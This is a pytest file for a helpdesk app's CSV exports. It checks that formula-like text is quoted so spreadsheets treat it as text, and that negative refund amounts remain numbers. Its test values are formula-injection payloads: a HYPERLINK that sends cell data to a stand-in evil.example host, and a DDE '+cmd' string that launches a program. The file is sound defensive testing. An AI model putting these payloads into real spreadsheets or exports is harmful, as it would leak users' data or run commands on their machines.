"""Every CSV export is safe to open in a spreadsheet: text that would run as a formula is
written with a leading quote, numbers (a refund's negative minutes and amount) stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from helpdesk.csv_export import spreadsheet_cell


def _rows(response):
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("https://evil.example","x")', '\'=HYPERLINK("https://evil.example","x")'),
        ("+48 600", "'+48 600"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Standard = plan", "Standard = plan"),
        ("", ""),
        (-30, -30),
        (Decimal("-90.00"), Decimal("-90.00")),
        (-1.5, -1.5),
    ],
)
def test_only_text_that_a_spreadsheet_would_run_is_quoted(value, written):
    assert spreadsheet_cell(value) == written


@pytest.mark.parametrize("name", ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+cmd|' /C calc'!A0",
                                  "-2+3", "@SUM(A1:A9)"])
def test_the_usage_csv_writes_a_formula_like_plan_name_as_text(cov, world, clock, web, login, name):
    plan = cov.plan(name)
    cov.production(world.acme, date(2026, 1, 5))
    cov.subscribe(world.acme, plan, date(2026, 10, 1))
    clock.on(date(2026, 11, 10))
    login(world.manager)
    rows = {r["client"]: r for r in _rows(web.get("/manager/usage.csv?period=2026-11"))}
    assert rows["acme"]["plans"] == "'" + name


def test_the_ledger_csv_keeps_a_refund_s_negative_numbers_as_numbers(cov, world, clock, web, login):
    plan = cov.plan(allowance_minutes=0, hourly_rate="180")
    cov.production(world.acme, date(2026, 1, 5))
    cov.subscribe(world.acme, plan, date(2026, 10, 1))
    clock.on(date(2026, 11, 3))
    ticket = cov.file(world.acme_user, "question", "=cmd")
    cov.log(ticket, 30)
    cov.reclassify(ticket, "bug", "It was a bug after all")
    login(world.manager)
    rows = _rows(web.get(f"/manager/usage/{world.acme.id}/entries?period=2026-11&format=csv"))
    refunds = [r for r in rows if int(r["minutes"]) < 0]
    assert refunds and all(r["minutes"] == "-30" for r in refunds)
    assert {r["amount"] for r in refunds} <= {"-90.00", "0.00"} and "-90.00" in {r["amount"] for r in rows}
